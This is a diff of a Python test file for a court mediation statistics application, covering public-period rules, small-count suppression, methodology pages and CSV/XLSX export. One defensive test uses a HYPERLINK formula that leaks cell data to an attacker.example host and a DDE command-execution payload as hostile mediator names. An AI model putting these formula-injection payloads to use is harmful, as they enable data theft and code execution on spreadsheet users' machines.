@@ -10,12 +10,14 @@ import json
 import re
 import statistics as pystats
 from collections import defaultdict
-from datetime import date
+from datetime import UTC, date, datetime
 from html.parser import HTMLParser
+from pathlib import Path
 from typing import Any
 
 import pytest
 
+from domain import clock
 from domain.application import Docket
 from domain.vocabulary import FINDINGS
 from projections import statistics as stats
@@ -24,7 +26,7 @@ from scripts.cli import main as medcourt
 from scripts.demo import generate
 from tests.court_clock import COURT_TODAY, last_year
 from tests.integration.test_api_support import ApiClient, Demo, demo_fixture  # noqa: F401 - fixture
-from tests.integration.web_support import PASSWORD, sign_in
+from tests.integration.web_support import ADMIN, CLERK, PASSWORD, file_civil_case, make_app, sign_in
 from web import create_app
 from web.analytics.measures import MEASURE_NAMES
 
@@ -410,7 +412,7 @@ def small_counts(measure: str, result: dict[str, Any]) -> list[str]:
     return found
 
 
-PUBLIC_QUERIES = ["by=court", "by=month", "by=specialty", "court=ALA&by=none", "by=track", "by=finding", "court=ALA&by=track",
+PUBLIC_QUERIES = ["by=court", "by=year", "by=specialty", "court=ALA&by=none", "by=track", "by=finding", "court=ALA&by=track",
                   "track=civil&specialty=surgery&by=court"]
 
 
@@ -420,7 +422,7 @@ def test_public_downloads_never_show_a_count_from_one_to_four(demo: Demo, measur
     start, end = LAST_YEAR
     exact_small = 0
     for query in PUBLIC_QUERIES:
-        if measure in ("pending", "funnel", "mediation") and "finding" in query or measure == "pending" and "month" in query:
+        if measure in ("pending", "funnel", "mediation") and "finding" in query or measure == "pending" and "year" in query:
             continue
         url = f"/public/statistics/{measure}.json?from={start}&to={end}&{query}"
         public = get_json(anyone, url)
@@ -436,7 +438,7 @@ def test_public_downloads_never_show_a_count_from_one_to_four(demo: Demo, measur
 
 def test_the_public_statistics_page_shows_no_small_count_in_its_tables_or_charts(demo: Demo) -> None:
     anyone = demo.client()
-    for query in ("", "?by=court", "?by=month", "?court=ULY", "?by=specialty"):
+    for query in ("", "?by=court", "?by=year", "?court=ULY", "?by=specialty"):
         response = anyone.get(f"/public/statistics{query}")
         assert response.status_code == 200
         html = response.get_data(as_text=True)
@@ -502,3 +504,113 @@ def cli_stats_here(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, 
     assert medcourt(["stats", *args, "--format", "json"]) == 0
     result: dict[str, Any] = json.loads(capsys.readouterr().out)
     return result
+
+
+# --- public periods: one whole quarter or year (DOMAIN.md section 4) -----------------------------------------------------
+
+
+def test_public_statistics_cover_one_whole_quarter_or_year_so_no_difference_reveals_a_hidden_count(
+    demo: Demo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    anyone = demo.client()
+    year = LAST_YEAR[0].year
+    # A quarter and a year are public periods.
+    assert get_json(anyone, f"/public/statistics/outcomes.json?from={year}-04-01&to={year}-06-30")["public"] is True
+    assert anyone.get(f"/public/statistics?from={year}-01-01&to={year}-12-31").status_code == 200
+    # Overlapping periods (the first half, then the first quarter) would give the second quarter by difference.
+    half = anyone.get(f"/public/statistics/outcomes.json?from={year}-01-01&to={year}-06-30")
+    assert half.status_code == 400 and json.loads(half.get_data(as_text=True))["field"] == "from"
+    page = anyone.get(f"/public/statistics?from={year}-01-15&to={year}-03-31")
+    assert page.status_code == 400 and 'id="query-error"' in page.get_data(as_text=True)
+    # Months are parts of a quarter: not public either.
+    by_month = anyone.get(f"/public/statistics/appeals.csv?from={year}-01-01&to={year}-12-31&by=month")
+    assert by_month.status_code == 400 and json.loads(by_month.get_data(as_text=True))["field"] == "by"
+    # The command line refuses the same, with one line on stderr; analysts still ask for any period.
+    monkeypatch.setenv("MEDCOURT_VAR", str(demo.var_dir))
+    monkeypatch.delenv("MEDCOURT_DATABASE_URL", raising=False)
+    capsys.readouterr()
+    assert medcourt(["stats", "outcomes", "--from", f"{year}-01-01", "--to", f"{year}-06-30", "--public"]) == 2
+    error = capsys.readouterr().err
+    assert error.count("\n") == 1 and "whole calendar quarter or year" in error
+    assert cli_stats_here(capsys, "outcomes", "--from", f"{year}-01-01", "--to", f"{year}-06-30")["public"] is False
+
+
+def test_a_reversal_rate_is_suppressed_on_its_own_numerator_not_on_the_upheld_count() -> None:
+    # 10 upheld, 2 reversed: "16.67 % of 12" would give away the 2 (the old basis was the upheld count, 10, shown).
+    group = {"key": "all", "rulings": 40, "appeals_filed": 12, "appeal_rate": 30.0, "appeals_decided": 12,
+             "outcomes": {"upheld": 10, "modified": 0, "reversed": 2, "remanded": 0}, "appeals_changed": 2, "reversal_rate": 16.67}
+    shown = stats.suppress(group, stats.APPEAL_COUNTS, stats.APPEAL_BASIS, stats.APPEAL_RELATIONS)
+    assert shown["appeals_changed"] == "<5" and shown["outcomes"]["reversed"] == "<5"
+    assert shown["reversal_rate"] == "suppressed"
+    # Nor can the hidden changed count be worked out as decided minus upheld.
+    assert "suppressed" in (shown["appeals_decided"], shown["outcomes"]["upheld"])
+
+
+# --- downloads a spreadsheet opens: text never runs as a formula ---------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+
+
+def test_a_mediator_named_like_a_formula_downloads_as_text_in_csv_and_xlsx(tmp_path: Path) -> None:
+    import openpyxl
+
+    # A court whose only mediator is named like a spreadsheet formula (issue 14's report).
+    app = make_app(tmp_path / "var")
+    services = app.extensions["medcourt"]
+    docket: Docket = services.docket
+    with clock.frozen_at(datetime(2025, 5, 12, 9, 0, tzinfo=UTC)):
+        mediator = docket.register_mediator(FORMULA, "ALA", "=cmd|' /C calc'!A0", ADMIN)["id"]
+        number = file_civil_case(docket, received_on=date(2025, 5, 5))
+        docket.refer_to_mediation(number, mediator_id=mediator, due_on=date(2025, 6, 30), actor=CLERK)
+    services.accounts.create_user("analyst", PASSWORD, "analyst", language="en")
+    token, _record = app.extensions["medcourt_api_tokens"].create("analyst", name="tests", created_by="tests")
+    query = "from=2025-01-01&to=2025-12-31&by=mediator"
+    analyst = app.test_client()
+    sign_in(analyst, "analyst")
+    api = ApiClient(app.test_client(), token)
+
+    # The exact requests of the report, and the XLSX beside them.
+    for response in (analyst.get(f"/analytics/mediation.csv?{query}"), api.get(f"/api/statistics/mediation.csv?{query}")):
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+        labels = [row[rows[0].index("label")] for row in rows[1:]]
+        assert labels == ["'" + FORMULA]
+        assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
+    for response in (analyst.get(f"/analytics/mediation.xlsx?{query}"), api.get(f"/api/statistics/mediation.xlsx?{query}")):
+        assert response.status_code == 200 and response.mimetype == stats.XLSX_MEDIA_TYPE
+        sheet = openpyxl.load_workbook(io.BytesIO(response.get_data()))["mediation"]
+        cells = [cell for row in sheet.iter_rows() for cell in row]
+        assert "'" + FORMULA in [cell.value for cell in cells]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        referred = [row[[c.value for c in sheet[1]].index("referred")].value for row in sheet.iter_rows(min_row=2)]
+        assert referred == [1]  # figures stay numbers
+    services.close()
+
+
+# --- the methodology page: every figure defined, in each language, linked from every section ------------------------------
+
+
+@pytest.mark.parametrize(("language", "words"), [("en", "Clearance rate"), ("ru", "Коэффициент рассмотрения"), ("kk", "Қарау коэффициенті")])
+def test_the_methodology_page_defines_every_figure_in_each_language(demo: Demo, language: str, words: str) -> None:
+    page = demo.client().get("/public/statistics/methodology", headers={"Accept-Language": language})
+    assert page.status_code == 200
+    html = page.get_data(as_text=True)
+    assert words in html and "DOMAIN.md" not in html
+    for measure in MEASURE_NAMES:
+        assert f'id="{measure}"' in html, measure
+        counts = COUNTS[measure]
+        fields = re.findall(r'data-field="([^"]+)"', html.split(f'id="figures-{measure}"', 1)[1].split("</table>", 1)[0])
+        assert set(counts) <= set(fields), (measure, set(counts) - set(fields))
+    # Every rate is listed with what public output suppresses it on: its own numerator and denominator.
+    reversal = html.split('id="figures-appeals"', 1)[1].split('data-field="reversal_rate"', 1)[1].split("</tr>", 1)[0]
+    if language == "en":
+        assert "Reversed, modified or remanded, Appeals decided" in reversal
+
+
+def test_every_section_of_the_analytics_page_links_to_its_definition(demo: Demo) -> None:
+    start, end = LAST_YEAR
+    html = demo.client("analyst").get(f"/analytics?from={start}&to={end}").get_data(as_text=True)
+    sections = html.count('class="stats-section"')
+    links = re.findall(r'class="methodology-link" href="/public/statistics/methodology#(\w+)"', html)
+    assert sections > 5 and len(links) == sections and set(links) <= set(MEASURE_NAMES)
+    assert "DOMAIN.md" not in html and "/public/statistics/methodology" in demo.client().get("/public/statistics").get_data(as_text=True)
